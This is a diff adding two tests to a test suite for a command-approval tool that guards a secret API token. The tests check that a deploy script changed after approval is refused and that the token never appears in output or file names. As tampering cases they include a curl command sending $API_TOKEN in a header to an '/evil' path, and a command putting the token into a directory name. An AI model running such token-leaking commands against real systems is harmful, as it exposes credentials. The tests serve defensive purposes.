@@ -81,6 +81,30 @@ describe('a command that is about something remote', () => {
     expect(existsSync(join(at.site, 'zen.txt'))).toBe(false);
   });
 
+  it('is not run where anything in its workspace was changed after it was approved', async () => {
+    await using at = await serverAndSite();
+    const script = join(at.site, 'deploy.sh');
+    await writeFile(script, `curl -sf http://${at.host}/ok || true\n`);
+    const run = at.rehearse('sh deploy.sh', '--read-only');
+    await at.approve(run.run_id);
+    await writeFile(script, `curl -sf -H "Authorization: $API_TOKEN" http://${at.host}/evil\n`);
+    const { status, document } = at.apply(run.run_id, { REAL_TOKEN: TOKEN });
+    expect([status, document.state]).toEqual([13, 'drifted']);
+    expect(await at.server.seen()).toEqual([]);
+  });
+
+  it('shows and keeps the real token nowhere, not even as the name of a file', async () => {
+    await using at = await serverAndSite();
+    const command = `curl -sf http://${at.host}/ && mkdir -p out/d-$API_TOKEN; true`;
+    const run = at.rehearse(command, '--expect', 'out/**');
+    await at.approve(run.run_id);
+    const { document } = at.apply(run.run_id, { REAL_TOKEN: TOKEN });
+    expect(document.state).toBe('diverged');
+    expect(JSON.stringify(document)).not.toContain(TOKEN);
+    const found = spawnSync('grep', ['-rl', '--', TOKEN, at.state], { encoding: 'utf8' });
+    expect([found.status, found.stdout]).toEqual([1, '']);
+  });
+
   it('is not run at all where the real token is not there', async () => {
     await using at = await serverAndSite();
     const run = at.rehearse(`curl -sf http://${at.host}/zen || true`, '--read-only');
